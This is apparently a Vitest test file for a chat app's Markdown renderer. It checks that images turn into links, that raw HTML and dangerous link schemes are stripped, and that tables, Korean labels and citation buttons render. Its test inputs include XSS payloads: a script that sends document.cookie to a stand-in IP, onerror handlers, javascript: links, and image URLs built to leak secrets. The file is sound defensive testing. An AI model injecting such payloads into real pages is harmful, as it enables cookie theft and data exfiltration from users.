import { NextIntlClientProvider } from "next-intl";
import { createElement, type ReactElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { AnswerText } from "@/components/chat/answer-text";
import { Markdown } from "@/components/ui/markdown";
import type { Citation } from "@/lib/chat/messages";
import en from "@/lib/i18n/messages/en.json";
import ko from "@/lib/i18n/messages/ko.json";

const inLocale = (element: ReactElement, locale: "en" | "ko" = "en") =>
  // biome-ignore lint/correctness/noChildrenProp: the provider's props type requires children, so createElement (no JSX in a .ts file) must pass them there
  renderToStaticMarkup(createElement(NextIntlClientProvider, { locale, timeZone: "UTC", messages: locale === "en" ? en : ko, children: element }));
const render = (text: string, locale: "en" | "ko" = "en") => inLocale(createElement(Markdown, { text }), locale);

describe("the Markdown renderer", () => {
  it("turns images into links the reader must click, for any host, numeric addresses included", () => {
    for (const src of ["http://198.51.100.7/pixel.png?secret=abc", "https://evil.example/x.gif", "http://[::1]:8080/i.png", "//evil.example/y.png"]) {
      const html = render(`Here: ![leak](${src}) done`);
      expect(html).not.toMatch(/<img/i);
      expect(html).toContain("Image: leak");
    }
    const html = render("![chart](http://198.51.100.7/c.png)");
    expect(html).toContain('href="http://198.51.100.7/c.png"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain("Image: chart (198.51.100.7)");
  });

  it("never renders raw HTML, scripts, event handlers or dangerous link targets", () => {
    const html = render(
      [
        '<img src="http://198.51.100.7/a.png" onerror="alert(1)">',
        "<script>fetch('http://198.51.100.7/'+document.cookie)</script>",
        '<iframe src="http://198.51.100.7/"></iframe>',
        "[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [v](vbscript:x)",
        "![x](javascript:alert(1))",
        '<a href="http://198.51.100.7" style="position:fixed">styled</a>',
      ].join("\n\n"),
    );
    expect(html).not.toMatch(/<(img|script|iframe|style)\b/i);
    expect(html).not.toMatch(/\son\w+=/i);
    expect(html).not.toMatch(/href="(javascript|data|vbscript):/i);
    expect(html).not.toMatch(/style=/i);
    expect(html).not.toContain("document.cookie");
    // the links' words stay, as text
    expect(html).toContain("<span>click</span>");
    expect(html).toContain("styled");
  });

  it("renders GitHub-flavoured tables, lists, quotes and highlighted code", () => {
    const html = render(
      ["| Item | Days |", "|---|---|", "| Vacation | 25 |", "", "- one", "- two", "", "> quoted", "", "```ts", "const days: number = 25;", "```"].join("\n"),
    );
    expect(html).toMatch(/<table>.*<th>Item<\/th>.*<td>Vacation<\/td><td>25<\/td>/s);
    expect(html).toContain("<ul>");
    expect(html).toContain("<blockquote>");
    expect(html).toContain('class="hljs-keyword"');
    expect(html).toContain('data-testid="copy-code"');
  });

  it("renders Korean text as it is, and labels in the interface's language", () => {
    expect(render("연차 휴가는 **15일**입니다.", "ko")).toContain("연차 휴가는 <strong>15일</strong>입니다.");
    expect(render("![도표](http://198.51.100.7/c.png)", "ko")).toContain("이미지: 도표 (198.51.100.7)");
    expect(render("```\nx\n```", "ko")).toContain("코드 복사");
  });

  it("turns citation markers into buttons for known sources only", () => {
    const citations: Citation[] = [{ n: 1, chunkId: "c1", documentId: "d1", documentTitle: "Handbook", headingPath: "", page: null }];
    const html = inLocale(createElement(AnswerText, { text: "Twenty-five days [1], not [2].", citations, onOpenCitation: () => undefined }));
    expect(html).toMatch(/<button[^>]*data-testid="citation"[^>]*>\[1\]<\/button>/);
    expect(html).toContain("not [2]");
  });
});
